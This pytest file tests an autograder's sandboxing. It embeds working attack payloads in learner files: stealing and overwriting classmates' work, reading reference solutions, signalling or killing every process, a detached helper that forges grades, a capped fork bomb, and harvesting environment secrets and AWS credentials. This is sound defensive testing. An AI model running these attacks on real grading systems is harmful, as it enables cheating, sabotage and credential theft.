"""Attacks on instructors' runs, made from nothing but a learner's step file, through the real commands:
`python -m grader.classroom SUBMISSIONS --out OUT --workers 2`, and Gradescope's run_autograder on a simulated
/autograder (as test_gradescope.py runs it).

Each attack is a real learner file. It tries every way in it can think of and prints a report of what each try
gave ("ATTACK <token> {...}"); the file then raises, so its step fails and the grader quotes that line in the
learner's feedback (grade-class) or in the step's output (Gradescope). The test reads the report back, which
shows that the attack really ran, and checks on the host that it got nowhere. A control run without a sandbox
(--unconfined, with the harmless attacks only) shows that the same files do win there: the attacks are real.

Then the refusals: where no sandbox works (GRADER_SANDBOX=none), both commands grade only when told
--unconfined (or, for Gradescope, a zip built with it), and every output of such a run says so.

The attacks run in the sandbox the kit picks here (bubblewrap) and, where that is cheap, as a separate user:
that needs root and a Python other users can start, built once per module with uv, offline from its cache.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest

import processes
from conftest import KIT, MANIFEST

from grader import messages

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the sandboxes are Linux's")

BUBBLEWRAP, SEPARATE_USER, NONE = "bubblewrap", "separate-user", "none"
TIMEOUT = 180  # seconds for one command: generous, so a busy machine never fails a test
GRACE = 2.0  # seconds after a command ended in which a process it left behind would show itself
STEP1 = MANIFEST.step(1).file
ALL_POINTS = sum(step.points for step in MANIFEST.steps)


def solution(step: int) -> str:
    return (KIT / "solutions" / MANIFEST.step(step).file).read_text(encoding="utf-8")


def starter(step: int) -> str:
    return (KIT / "steps" / MANIFEST.step(step).file).read_text(encoding="utf-8")


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def open_folder(prefix: str) -> Path:
    """A new folder in /tmp that every user may enter and read, as an unpacked /autograder or a shared
    submissions folder usually is (pytest's own tmp_path is closed to other users)."""
    folder = Path(tempfile.mkdtemp(prefix=prefix))
    folder.chmod(0o755)
    return folder


# --- the attacks: code appended to a learner's step file ---------------------------------------------------

PRELUDE = '''

# ---- an attack on the grader: nothing below is needed by the exercise ----
import json as _json, os as _os, signal as _signal, subprocess as _subprocess, sys as _sys, time as _time

ATTEMPTS, LOOT = {}, {}
WON = False  # set by an attack that got what it needs to pass


def attempt(name, action):
    """Try one way in; what it gave, or why it was refused, goes into the report."""
    try:
        ATTEMPTS[name] = "ok: " + str(action())[:300]
    except Exception as error:
        ATTEMPTS[name] = "refused: " + type(error).__name__ + ": " + str(error)[:200]


def report():
    print("ATTACK " + PARAMS["token"] + " " + _json.dumps({"attempts": ATTEMPTS, "loot": LOOT}, sort_keys=True))


def visible_pids():
    return sorted(int(name) for name in _os.listdir("/proc") if name.isdigit() and int(name) != _os.getpid())


def working_folders():
    """This process's working folder, its parent's and every other process's it can see."""
    folders = {_os.getcwd()}
    for pid in visible_pids():
        try:
            folders.add(_os.readlink("/proc/%d/cwd" % pid))
        except OSError:
            pass
    return sorted(folders)


def harness_folder():
    """Where the harness that runs this file lives (grader/sandbox/ of the kit, unless a sandbox copied it)."""
    with open("/proc/self/cmdline", "rb") as handle:
        words = handle.read().decode().split("\\0")
    return _os.path.dirname(next(word for word in words if word.endswith("child.py")))


HERE = _os.path.dirname(_os.path.abspath(__file__))


def someone_elses(path):
    """A step file found somewhere, unless it is this file itself (a sandbox's copy of it is too)."""
    return _os.path.isfile(path) and _os.path.realpath(path) != _os.path.realpath(__file__)
'''

END = '''
report()
if not WON:
    raise RuntimeError("the attack is over")
'''

# grade-class: a classmate's step file, found beside this learner's folder, and used as its own.
READ_CLASSMATE = '''
def classmates_files(folder):
    found = []
    for name in sorted(_os.listdir(folder)):
        for path in (_os.path.join(folder, name, PARAMS["file"]), _os.path.join(folder, name, "steps", PARAMS["file"])):
            if name != PARAMS["me"] and someone_elses(path):
                found.append(path)
    return found


def steal_from(folder):
    files = classmates_files(folder)
    for path in files:
        with open(path, encoding="utf-8") as handle:
            LOOT[path] = handle.read()
    return "%d classmates' files in %s" % (len(files), folder)


attempt("beside this file's folder", lambda: steal_from(_os.path.dirname(HERE)))
for _folder in working_folders():
    attempt("beside the working folder " + _folder, lambda folder=_folder: steal_from(_os.path.dirname(folder)))
attempt("in SUBMISSIONS_DIR, its path known", lambda: steal_from(PARAMS["submissions"]))
for _text in LOOT.values():
    if PARAMS["victim_mark"] in _text:  # a safety rail: only ever run the work of the classmate the test set up
        exec(_text)  # the classmate's work, passed off as this learner's
        WON = True
        break
'''

# grade-class: a classmate's correct files overwritten with a wrong answer, before they are graded.
OVERWRITE_CLASSMATE = '''
def overwrite(path):
    with open(path, "r+", encoding="utf-8") as handle:  # "r+": only a file that is there
        if PARAMS["victim_mark"] not in handle.read():  # a safety rail: never anyone's file but the test's victim
            return "not the victim's"
        handle.seek(0)
        handle.truncate()
        handle.write(PARAMS["wrong"])
    LOOT[path] = "overwritten"
    return "overwritten"


def overwrite_beside(folder):
    done = 0
    for name in sorted(_os.listdir(folder)):
        for path in (_os.path.join(folder, name, PARAMS["file"]), _os.path.join(folder, name, "steps", PARAMS["file"])):
            if name != PARAMS["me"] and someone_elses(path) and overwrite(path) == "overwritten":
                done += 1
    return "%d files overwritten in %s" % (done, folder)


attempt("beside this file's folder", lambda: overwrite_beside(_os.path.dirname(HERE)))
for _folder in working_folders():
    attempt("beside the working folder " + _folder, lambda folder=_folder: overwrite_beside(_os.path.dirname(folder)))
attempt("in SUBMISSIONS_DIR, its path known", lambda: overwrite_beside(PARAMS["submissions"]))
for _path in PARAMS["victim_files"]:
    attempt("the classmate's file " + _path, lambda path=_path: overwrite(path))
'''

# grade-class: the kit's reference solution, found from the kit's known path or guessed, and used as its own.
READ_SOLUTIONS = '''
def kit_guesses():
    guesses = {PARAMS["kit"], _os.path.dirname(HERE), _os.path.dirname(_os.path.dirname(HERE))}
    try:
        guesses.add(_os.path.dirname(_os.path.dirname(harness_folder())))  # kit/grader/sandbox/child.py
    except Exception:
        pass
    for folder in working_folders():
        while folder not in ("/", ""):
            guesses.add(folder)
            folder = _os.path.dirname(folder)
    return sorted(guesses)


def read_solution(kit):
    path = _os.path.join(kit, "solutions", PARAMS["file"])
    with open(path, encoding="utf-8") as handle:
        LOOT[path] = handle.read()
    return "read"


for _kit in kit_guesses():
    attempt("solutions/ in " + _kit, lambda kit=_kit: read_solution(kit))
import hashlib as _hashlib
for _text in LOOT.values():
    if _hashlib.sha256(_text.encode()).hexdigest() == PARAMS["solution_sha"]:  # a safety rail: the kit's own
        exec(_text)  # the reference solution, passed off as this learner's
        WON = True
        break
'''

# A helper that outlives the step: it rewrites the grader's results (PARAMS["targets"]) over and over. Its
# command line carries the token, so the host sees it.
HELPER = '''
import json, sys, time

targets, forged = json.loads(sys.argv[1]), sys.argv[2]


def rewrite():
    done = {}
    for path in targets:
        try:
            with open(path, "w", encoding="utf-8") as handle:
                handle.write(forged)
            done[path] = "rewritten"
        except OSError as error:
            done[path] = "refused: " + type(error).__name__
    return done


print(json.dumps(rewrite()), flush=True)
deadline = time.monotonic() + 600
while time.monotonic() < deadline:
    rewrite()
    time.sleep(0.05)
'''

LEAVE_A_HELPER = '''
def start_helper():
    helper = _subprocess.Popen([_sys.executable, "-c", PARAMS["helper"], _json.dumps(PARAMS["targets"]),
                                PARAMS["forged"], PARAMS["token"]], start_new_session=True,
                               stdin=_subprocess.DEVNULL, stdout=_subprocess.PIPE, stderr=_subprocess.DEVNULL)
    first = helper.stdout.readline().decode().strip()  # once it has tried: it runs
    return "started (pid %d), its first try: %s" % (helper.pid, first)


attempt("start a detached helper", start_helper)
_time.sleep(2)  # the helper runs on its own now; this step may end
'''

GUARD = '''
if _os.getuid() == 0:  # never aim signals at the whole machine: no sandbox would be in the way
    ATTEMPTS["signals"] = "not attempted: this file runs as root without a sandbox"
    report()
    raise SystemExit("refusing to signal every process on the machine")
'''

# grade-class: SIGINT to the parent and to every process in sight, to stop the instructor's run.
INTERRUPT = GUARD + '''
def signal_every_visible(number):
    hit, refused = [], 0
    for pid in visible_pids():
        try:
            _os.kill(pid, number)
            hit.append(pid)
        except OSError:
            refused += 1
    return "signalled %s, refused %d" % (hit, refused)


attempt("SIGINT the parent process", lambda: _os.kill(_os.getppid(), _signal.SIGINT))
attempt("SIGINT every visible process", lambda: signal_every_visible(_signal.SIGINT))
attempt("SIGINT every process it may signal (kill -1)", lambda: _os.kill(-1, _signal.SIGINT))
_time.sleep(1)  # let the signals land before this step ends
'''

# Gradescope: a forged results.json, then SIGKILL for the grader and everything in sight.
FORGE_AND_KILL = '''
def forge(path):
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(PARAMS["forged"])
    return "written"


for _path in PARAMS["targets"]:
    attempt("forge " + _path, lambda path=_path: forge(path))
''' + GUARD + '''
def signal_every_visible(number):
    hit, refused = [], 0
    for pid in visible_pids():
        try:
            _os.kill(pid, number)
            hit.append(pid)
        except OSError:
            refused += 1
    return "signalled %s, refused %d" % (hit, refused)


attempt("SIGKILL the parent process", lambda: _os.kill(_os.getppid(), _signal.SIGKILL))
attempt("SIGKILL every visible process", lambda: signal_every_visible(_signal.SIGKILL))
report()  # kill -1 may end this process too
attempt("SIGKILL every process it may signal (kill -1)", lambda: _os.kill(-1, _signal.SIGKILL))
_time.sleep(1)
'''

# Gradescope: code appended to a grader module that the grader imports only after grading (report.py).
APPEND_TO_THE_GRADER = '''
INJECTED = "\\nprogress_line = lambda results: %r  # injected by a learner\\n" % PARAMS["forged"]


def append(path):
    with open(path, "a", encoding="utf-8") as handle:
        handle.write(INJECTED)
    return "appended"


_targets = list(PARAMS["targets"])
try:
    _targets.append(_os.path.join(_os.path.dirname(harness_folder()), "report.py"))  # grader/sandbox/..
except Exception:
    pass
for _path in _targets:
    attempt("append to " + _path, lambda path=_path: append(path))
'''

# Gradescope: the grader's environment and the machine's AWS credentials, printed for results.json.
STEAL_SECRETS = '''
SECRET_WORDS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "aws_")


def keep_secrets(where, text, separator):
    found = [entry for entry in text.split(separator) if any(word in entry for word in SECRET_WORDS)]
    if found:
        LOOT[where] = found
    return "%d bytes, %d secret-looking entries" % (len(text), len(found))


def read(path, separator):
    with open(path, "rb") as handle:
        return keep_secrets(path, handle.read().decode("utf-8", "replace"), separator)


def every_environment():
    read_ok, refused, entries = 0, 0, set()
    for pid in visible_pids():
        try:
            with open("/proc/%d/environ" % pid, "rb") as handle:
                entries.update(handle.read().decode("utf-8", "replace").split("\\0"))
            read_ok += 1
        except OSError:
            refused += 1
    keep_secrets("every visible process", "\\0".join(sorted(entries)), "\\0")
    return "read %d, refused %d" % (read_ok, refused)


attempt("its own environment", lambda: keep_secrets("os.environ", "\\0".join(
    "%s=%s" % item for item in _os.environ.items()), "\\0"))
attempt("the parent's environment", lambda: read("/proc/%d/environ" % _os.getppid(), "\\0"))
attempt("every visible process's environment", every_environment)
for _path in sorted({_os.path.expanduser("~/.aws/credentials"), PARAMS["home"] + "/.aws/credentials",
                     "/root/.aws/credentials"}):
    attempt("read " + _path, lambda path=_path: read(path, "\\n"))
'''


# Gradescope: as many processes as it can start, up to PARAMS["count"] (each sleeps until its run is ended).
FORK_MANY = '''
def fork_many(count):
    started = 0
    for _ in range(count):
        try:
            pid = _os.fork()
        except OSError as error:
            return "refused after %d: %s" % (started, error)
        if pid == 0:
            _time.sleep(60)
            _os._exit(0)
        started += 1
    return "started %d" % started


attempt("fork", lambda: fork_many(PARAMS["count"]))
'''


def attack(base: str, code: str, **params) -> str:
    """A learner's step file: ``base`` (a solution or a starter), then the attack with its PARAMS."""
    return base + PRELUDE + f"PARAMS = {params!r}\n" + code + END


def attack_report(text: str, token: str) -> dict:
    """The last report the attack with ``token`` printed, as quoted in ``text`` (feedback or output)."""
    found = re.findall(r"ATTACK " + re.escape(token) + r" (\{.*\})", text)
    assert found, f"the attack's report is not in what the grader says, so it never ran:\n{text}"
    return json.loads(found[-1])


def refused_everywhere(report: dict) -> None:
    assert report["attempts"], "the attack tried something"
    assert report["loot"] == {}, f"the attack got something: {report['loot']}"


# --- the sandboxes ------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Sandbox:
    kind: str
    python: str  # the grader's Python (a separate user must be able to start it)


def _works(sandbox: Sandbox) -> subprocess.CompletedProcess:
    return subprocess.run([sandbox.python, "-c", "from grader.sandbox import confinement; confinement.current()"],
                          cwd=KIT, env={**os.environ, "GRADER_SANDBOX": sandbox.kind}, capture_output=True,
                          text=True, timeout=TIMEOUT, stdin=subprocess.DEVNULL)


@pytest.fixture(scope="module", params=[BUBBLEWRAP, SEPARATE_USER])
def sandbox(request) -> Sandbox:
    python = sys.executable if request.param == BUBBLEWRAP else request.getfixturevalue("open_python")
    chosen = Sandbox(request.param, python)
    probe = _works(chosen)
    if probe.returncode:
        pytest.skip(f"{request.param} does not work here: {probe.stderr.strip().splitlines()[-1]}")
    return chosen


# --- grade-class -------------------------------------------------------------------------------------------

VICTIM, LAST_VICTIM = "ada", "zoe"  # zoe is graded last, after every attacker
ATTACKERS = {
    "eve_interrupts": (1, INTERRUPT),
    "eve_leaves_a_helper": (1, LEAVE_A_HELPER),
    "eve_overwrites_a_classmate": (1, OVERWRITE_CLASSMATE),
    "eve_reads_a_classmate": (1, READ_CLASSMATE),
    "eve_reads_the_solutions": (1, READ_SOLUTIONS),
}
LEARNERS = sorted([VICTIM, LAST_VICTIM, *ATTACKERS])


@dataclass
class ClassRun:
    kind: str
    done: subprocess.CompletedProcess
    submissions: Path
    out: Path
    token: str  # every attack's
    forged: str  # what the helper writes over the grader's files
    victim_mark: str  # a comment only in ada's step 1
    victim_files: dict[str, str]  # zoe's files: name -> digest before the run
    at_exit: dict[str, str]  # grades.csv and zoe's feedback as the command left them
    after_grace: dict[str, str]  # the same, GRACE seconds later
    helper_seen: set[int]
    kit: Path

    def grades(self) -> dict[str, dict]:
        with (self.out / "grades.csv").open(encoding="utf-8", newline="") as file:
            return {row["learner"]: row for row in csv.DictReader(file)}

    def feedback(self, learner: str) -> str:
        return (self.out / "feedback" / f"{learner}.txt").read_text(encoding="utf-8")

    def report(self, learner: str) -> dict:
        return attack_report(self.feedback(learner), self.token)


def closed_kit_copy(folder: Path) -> Path:
    """The kit as a separate user's run needs it: closed to others (grade-class checks). With solutions/."""
    kit = folder / "kit"
    for name in ("grader", "solutions"):
        shutil.copytree(KIT / name, kit / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(KIT / "pyproject.toml", kit)
    kit.chmod(0o750)
    return kit


def write_class(submissions: Path, token: str, forged: str, out: Path, kit: Path) -> tuple[str, dict]:
    """ada and zoe hand in the solutions, each file marked with a comment of theirs; each attacker a step-1 file.
    Returns ada's mark and the digests of zoe's files."""
    marks = {learner: f"# {learner}'s own work {processes.new_token(learner)}\n" for learner in (VICTIM, LAST_VICTIM)}
    for learner, mark in marks.items():
        for step in MANIFEST.steps:
            (submissions / learner).mkdir(parents=True, exist_ok=True)
            (submissions / learner / step.file).write_text(solution(step.number) + mark, encoding="utf-8")
    zoe = sorted(str(path) for path in (submissions / LAST_VICTIM).glob("*.py"))
    params = {
        "token": token, "file": STEP1, "submissions": str(submissions), "kit": str(kit),
        "solution_sha": hashlib.sha256(solution(1).encode()).hexdigest(),
        "wrong": "products_table = {}  # overwritten by a classmate\n", "victim_files": zoe,
        "helper": HELPER, "forged": forged,
        "targets": [str(out / "grades.csv"), str(out / "feedback" / f"{LAST_VICTIM}.txt")],
    }
    for learner, (step, code) in ATTACKERS.items():
        victim = LAST_VICTIM if code is OVERWRITE_CLASSMATE else VICTIM
        folder = submissions / learner
        folder.mkdir(parents=True)
        # Those that would pass with what they steal start from the starter; the others from the solution.
        base = starter(step) if code in (READ_CLASSMATE, READ_SOLUTIONS) else solution(step)
        text = attack(base, code, me=learner, victim_mark=marks[victim].strip(), **params)
        (folder / MANIFEST.step(step).file).write_text(text, encoding="utf-8")
    return marks[VICTIM], {Path(path).name: digest(Path(path)) for path in zoe}


def run_class(kind: str, python: str, kit: Path, submissions: Path, out: Path, *options: str,
              token: str | None = None, env: dict | None = None):
    """`python -m grader.classroom SUBMISSIONS --out OUT --workers 2` from ``kit``, watching for ``token``."""
    environment = {**os.environ, "GRADER_SANDBOX": kind, "PYTHONIOENCODING": "utf-8", **(env or {})}
    environment.pop("PYTHONPATH", None)
    with processes.watching(token) as seen:
        done = subprocess.run([python, "-m", "grader.classroom", str(submissions), "--out", str(out),
                               "--workers", "2", *options], cwd=kit, env=environment, capture_output=True,
                              text=True, encoding="utf-8", timeout=TIMEOUT, stdin=subprocess.DEVNULL)
    return done, seen


def snapshot(out: Path) -> dict[str, str]:
    files = {name: out / name for name in ("grades.csv", f"feedback/{LAST_VICTIM}.txt")}
    return {name: path.read_text(encoding="utf-8") if path.exists() else "" for name, path in files.items()}


@pytest.fixture(scope="module")
def attacked_class(sandbox):
    """A class of two honest learners (ada, zoe) and five attackers, graded once by the real command, in a
    course folder that others may enter (as a teacher's usually is). As a separate user, grade-class wants the
    kit and SUBMISSIONS_DIR closed to others: so they are, and that alone keeps the attackers out."""
    course = open_folder(f"course-{sandbox.kind}-")
    try:
        kit = KIT if sandbox.kind == BUBBLEWRAP else closed_kit_copy(course)
        submissions, out = course / "submissions", course / "grades"
        token, forged = processes.new_token("eve"), f"FORGED {processes.new_token('grades')}\n"
        mark, zoe = write_class(submissions, token, forged, out, kit)
        if sandbox.kind == SEPARATE_USER:
            submissions.chmod(0o750)
        done, seen = run_class(sandbox.kind, sandbox.python, kit, submissions, out, token=token)
        at_exit = snapshot(out)
        time.sleep(GRACE)
        yield ClassRun(sandbox.kind, done, submissions, out, token, forged, mark, zoe, at_exit, snapshot(out), seen,
                       kit)
    finally:
        shutil.rmtree(course, ignore_errors=True)


def test_grade_class_finishes_with_every_row_though_a_learner_sent_sigint_everywhere(attacked_class):
    run = attacked_class
    assert run.done.returncode == 0, run.done.stdout + run.done.stderr
    assert "Traceback" not in run.done.stdout + run.done.stderr
    assert "Stopped." not in run.done.stderr
    grades = run.grades()
    assert list(grades) == LEARNERS, "a complete grades.csv"
    assert {row["status"] for row in grades.values()} == {"graded"}
    assert {row["confinement"] for row in grades.values()} == {run.kind}
    for learner in (VICTIM, LAST_VICTIM):
        assert float(grades[learner]["total"]) == ALL_POINTS, learner  # the bonus too
    attempts = run.report("eve_interrupts")["attempts"]
    assert set(attempts) == {"SIGINT the parent process", "SIGINT every visible process",
                             "SIGINT every process it may signal (kill -1)"}, attempts
    assert grades["eve_interrupts"]["step1"] == "0"
    for learner in LEARNERS:
        assert messages.UNCONFINED_NOTE not in run.feedback(learner)


def test_a_learner_cannot_pass_with_a_classmates_file(attacked_class):
    run = attacked_class
    learner = "eve_reads_a_classmate"
    assert run.grades()[learner]["step1"] == "0", "it passed with a classmate's file"
    report = run.report(learner)
    refused_everywhere(report)
    assert "in SUBMISSIONS_DIR, its path known" in report["attempts"]
    assert run.victim_mark.strip() not in run.feedback(learner)


def test_a_learner_cannot_overwrite_a_classmates_files(attacked_class):
    run = attacked_class
    report = run.report("eve_overwrites_a_classmate")
    assert len(report["attempts"]) >= 3, report
    refused_everywhere(report)
    assert {name: digest(run.submissions / LAST_VICTIM / name) for name in run.victim_files} == run.victim_files
    assert float(run.grades()[LAST_VICTIM]["total"]) == ALL_POINTS


def test_a_learner_cannot_read_the_kits_solutions(attacked_class):
    run = attacked_class
    learner = "eve_reads_the_solutions"
    assert run.grades()[learner]["step1"] == "0", "it passed with the reference solution"
    report = run.report(learner)
    refused_everywhere(report)
    assert f"solutions/ in {run.kit}" in report["attempts"], "it knew where the kit is"


def test_a_helper_left_behind_cannot_rewrite_grades_or_feedback_after_the_run(attacked_class):
    run = attacked_class
    report = run.report("eve_leaves_a_helper")
    started = report["attempts"]["start a detached helper"]
    # The helper ran (seen on the host while the class was graded), unless the sandbox refused new processes.
    assert run.helper_seen or started.startswith("refused"), started
    assert run.at_exit["grades.csv"], "grades.csv was written"
    assert run.after_grace == run.at_exit, "something rewrote the results after the run"
    assert run.forged.strip() not in json.dumps(run.after_grace)
    assert processes.survivors(run.token) == []


def test_unconfined_the_same_attacks_win(tmp_path):
    """The control: with no sandbox in the way, the attacks above (but the signals) do win, so those tests pass
    because of the sandbox, not because the attacks are broken."""
    submissions, out = tmp_path / "submissions", tmp_path / "grades"
    token, forged = processes.new_token("eve"), f"FORGED {processes.new_token('grades')}\n"
    write_class(submissions, token, forged, out, KIT)
    shutil.rmtree(submissions / "eve_interrupts")
    passed = f"✓ Step 1: {MANIFEST.step(1).title} (passed)"
    try:
        done, seen = run_class(NONE, sys.executable, KIT, submissions, out, "--unconfined", token=token)
        assert done.returncode == 0, done.stdout + done.stderr
        feedback = {path.stem: path.read_text(encoding="utf-8") for path in (out / "feedback").glob("*.txt")}
        assert passed in feedback["eve_reads_a_classmate"]
        assert passed in feedback["eve_reads_the_solutions"]
        assert "products_table = {}  # overwritten by a classmate" in (submissions / LAST_VICTIM / STEP1).read_text()
        assert seen, "the helper ran"
        deadline = time.monotonic() + 30  # it rewrites grades.csv every 50 ms once grade-class has written it
        while (out / "grades.csv").read_text(encoding="utf-8") != forged and time.monotonic() < deadline:
            time.sleep(0.1)
        assert (out / "grades.csv").read_text(encoding="utf-8") == forged
    finally:
        for pid in processes.processes_carrying(token):  # the helper this test's learner left behind
            os.kill(pid, 9)


def test_separate_user_a_learner_cannot_read_feedback_written_for_classmates(open_python, tmp_path):
    python = open_python
    if _works(Sandbox(SEPARATE_USER, python)).returncode:
        pytest.skip("separate-user does not work here")
    kit = closed_kit_copy(tmp_path)
    shared = open_folder("course-")  # a course folder others may enter; --out does not exist yet
    try:
        submissions, out = shared / "submissions", shared / "grades"
        secret = processes.new_token("ada")
        (submissions / "a_ada").mkdir(parents=True)
        (submissions / "a_ada" / STEP1).write_text(f"print({secret!r})\nraise SystemExit(1)\n", encoding="utf-8")
        token = processes.new_token("eve")
        reader = '''
deadline = _time.monotonic() + 5  # within the step's time limit
while not LOOT and _time.monotonic() < deadline:
    for _path in PARAMS["targets"]:
        try:
            with open(_path, encoding="utf-8") as _handle:
                LOOT[_path] = _handle.read()
        except OSError as _error:
            ATTEMPTS["read " + _path] = "refused: " + type(_error).__name__
    _time.sleep(0.2)
'''
        (submissions / "z_eve").mkdir()
        (submissions / "z_eve" / STEP1).write_text(
            attack(solution(1), reader, token=token, targets=[str(out / "feedback" / "a_ada.txt")]), encoding="utf-8")
        submissions.chmod(0o750)
        done, _ = run_class(SEPARATE_USER, python, kit, submissions, out, "--workers", "1")
        assert done.returncode == 0, done.stdout + done.stderr
        eve = (out / "feedback" / "z_eve.txt").read_text(encoding="utf-8")
        assert secret in (out / "feedback" / "a_ada.txt").read_text(encoding="utf-8")
        attack_report(eve, token)
        assert secret not in eve, "eve read ada's feedback"
    finally:
        shutil.rmtree(shared, ignore_errors=True)


# --- Gradescope --------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def gradescope_zip(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("gradescope-build") / "gradescope.zip"
    done = subprocess.run([sys.executable, "-m", "grader.gradescope", "build", "--out", str(out)], cwd=KIT,
                          capture_output=True, text=True, timeout=TIMEOUT, stdin=subprocess.DEVNULL)
    assert done.returncode == 0, done.stderr
    return out


@pytest.fixture
def autograder(gradescope_zip):
    """A simulated /autograder that others may enter (as Gradescope's is): source/ = the unpacked zip, and an
    empty submission/. Removed afterwards."""
    folder = open_folder("autograder-")
    with zipfile.ZipFile(gradescope_zip) as archive:
        archive.extractall(folder / "source")
    (folder / "submission").mkdir()
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def submit(root: Path, step: int, text: str) -> None:
    """The reference solutions as the student's files, with step ``step``'s replaced by ``text``."""
    for each in MANIFEST.steps:
        content = text if each.number == step else solution(each.number)
        (root / "submission" / each.file).write_text(content, encoding="utf-8")


def run_autograder(root: Path, sandbox: Sandbox, *, token: str | None = None, env: dict | None = None):
    environment = {**os.environ, "AUTOGRADER_ROOT": str(root), "GRADER_PYTHON": sandbox.python,
                   "GRADER_SANDBOX": sandbox.kind, **(env or {})}
    environment.pop("PYTHONPATH", None)
    with processes.watching(token) as seen:
        done = subprocess.run(["bash", str(root / "source" / "run_autograder")], cwd=root, capture_output=True,
                              text=True, encoding="utf-8", timeout=TIMEOUT, stdin=subprocess.DEVNULL, env=environment)
    return done, seen


def results_of(root: Path) -> str:
    return (root / "results" / "results.json").read_text(encoding="utf-8")


def graded_for_real(done: subprocess.CompletedProcess, text: str, sandbox: Sandbox, root: Path, step: int) -> dict:
    """The grader's own results.json: every step but the attacker's passes, and the sandbox is named."""
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    document = json.loads(text)
    assert [test["status"] for test in document["tests"]] == [
        "failed" if each.number == step else "passed" for each in MANIFEST.steps]
    assert document["score"] == ALL_POINTS - MANIFEST.step(step).points
    assert document["extra_data"]["confinement"] == sandbox.kind
    assert messages.UNCONFINED_NOTE not in document["output"]
    if sandbox.kind == SEPARATE_USER:
        assert root.stat().st_mode & 0o007 == 0, "AUTOGRADER_ROOT is closed to the learner's user"
    return document


def forged_results(label: str) -> str:
    return json.dumps({"score": 1000, "output": label, "tests": []})


def test_a_helper_left_behind_cannot_rewrite_results_json(sandbox, autograder):
    token, label = processes.new_token("helper"), processes.new_token("forged")
    targets = [str(autograder / "results" / "results.json")]
    submit(autograder, 1, attack(solution(1), LEAVE_A_HELPER, token=token, helper=HELPER, targets=targets,
                                 forged=forged_results(label)))
    done, seen = run_autograder(autograder, sandbox, token=token)
    written = results_of(autograder)
    time.sleep(GRACE)  # a helper that outlived the run would rewrite it now
    assert results_of(autograder) == written
    document = graded_for_real(done, written, sandbox, autograder, 1)
    started = attack_report(document["tests"][0]["output"], token)["attempts"]["start a detached helper"]
    assert seen or started.startswith("refused"), started
    assert label not in written
    assert processes.survivors(token) == []


def test_a_forged_results_json_and_killing_the_grader_change_nothing(sandbox, autograder):
    token, label = processes.new_token("forge"), processes.new_token("forged")
    targets = [str(autograder / "results" / "results.json")]
    (autograder / "results").mkdir()  # as if a run had begun: the forgery has a folder to go in
    submit(autograder, 1, attack(solution(1), FORGE_AND_KILL, token=token, targets=targets,
                                 forged=forged_results(label)))
    done, _ = run_autograder(autograder, sandbox)
    written = results_of(autograder)
    document = graded_for_real(done, written, sandbox, autograder, 1)
    report = attack_report(document["tests"][0]["output"], token)
    assert "SIGKILL every visible process" in report["attempts"], report
    assert label not in written


def test_code_appended_to_a_grader_module_imported_late_never_runs(sandbox, autograder):
    token, label = processes.new_token("append"), processes.new_token("injected")
    report_py = autograder / "source" / "grader" / "report.py"
    before = digest(report_py)
    submit(autograder, 1, attack(solution(1), APPEND_TO_THE_GRADER, token=token, targets=[str(report_py)],
                                 forged=label))
    done, _ = run_autograder(autograder, sandbox)
    written = results_of(autograder)
    document = graded_for_real(done, written, sandbox, autograder, 1)
    report = attack_report(document["tests"][0]["output"], token)
    assert report["attempts"][f"append to {report_py}"].startswith("refused"), report
    assert digest(report_py) == before
    assert label not in written


def test_a_learner_cannot_start_hundreds_of_processes(sandbox, autograder):
    """A bounded fork bomb: 200 processes at once would be enough to starve a grading machine shared by a class
    (unbounded, it takes every pid the machine has while the step runs, and the grader's own workers and other
    learners' runs then fail to start)."""
    token = processes.new_token("forks")
    submit(autograder, 1, attack(solution(1), FORK_MANY, token=token, count=200))
    done, _ = run_autograder(autograder, sandbox)
    document = graded_for_real(done, results_of(autograder), sandbox, autograder, 1)
    forked = attack_report(document["tests"][0]["output"], token)["attempts"]["fork"]
    assert forked.startswith("ok: refused after "), forked  # the sandbox stopped it short of 200


@pytest.fixture
def graders_secrets(tmp_path):
    """Secrets of the machine that grades: one in the grader's environment, one in ~/.aws/credentials (the home
    closed to others, as root's is)."""
    home = tmp_path / "home"
    (home / ".aws").mkdir(parents=True)
    home.chmod(0o700)
    in_environment, in_credentials = processes.new_token("envsecret"), processes.new_token("awssecret")
    (home / ".aws" / "credentials").write_text(
        f"[default]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = {in_credentials}\n", encoding="utf-8")
    environment = {"HOME": str(home), "GRADESCOPE_DEPLOY_TOKEN": in_environment,
                   "AWS_SECRET_ACCESS_KEY": in_environment}
    return home, environment, (in_environment, in_credentials)


def test_the_graders_secrets_never_reach_results_json(sandbox, autograder, graders_secrets):
    home, environment, secrets = graders_secrets
    token = processes.new_token("secrets")
    submit(autograder, 1, attack(solution(1), STEAL_SECRETS, token=token, home=str(home)))
    done, _ = run_autograder(autograder, sandbox, env=environment)
    written = results_of(autograder)
    document = graded_for_real(done, written, sandbox, autograder, 1)
    report = attack_report(document["tests"][0]["output"], token)
    assert "the parent's environment" in report["attempts"], report
    for secret in secrets:
        assert secret not in written
        assert secret not in done.stdout + done.stderr


def test_separate_user_closes_the_root_when_the_grader_runs_from_a_source_others_may_read(open_python, autograder):
    """The grader's source outside AUTOGRADER_ROOT, readable by everyone: results.json is still written, the root
    is still closed, and the learner's user cannot change the source it can read."""
    sandbox = Sandbox(SEPARATE_USER, open_python)
    if _works(sandbox).returncode:
        pytest.skip("separate-user does not work here")
    source = open_folder("kit-source-")
    try:
        shutil.copytree(autograder / "source", source, dirs_exist_ok=True)
        shutil.rmtree(autograder / "source")
        report_py = source / "grader" / "report.py"
        before = digest(report_py)
        token, label = processes.new_token("append"), processes.new_token("injected")
        submit(autograder, 1, attack(solution(1), APPEND_TO_THE_GRADER, token=token, targets=[str(report_py)],
                                     forged=label))
        assert autograder.stat().st_mode & 0o007 == 0o005
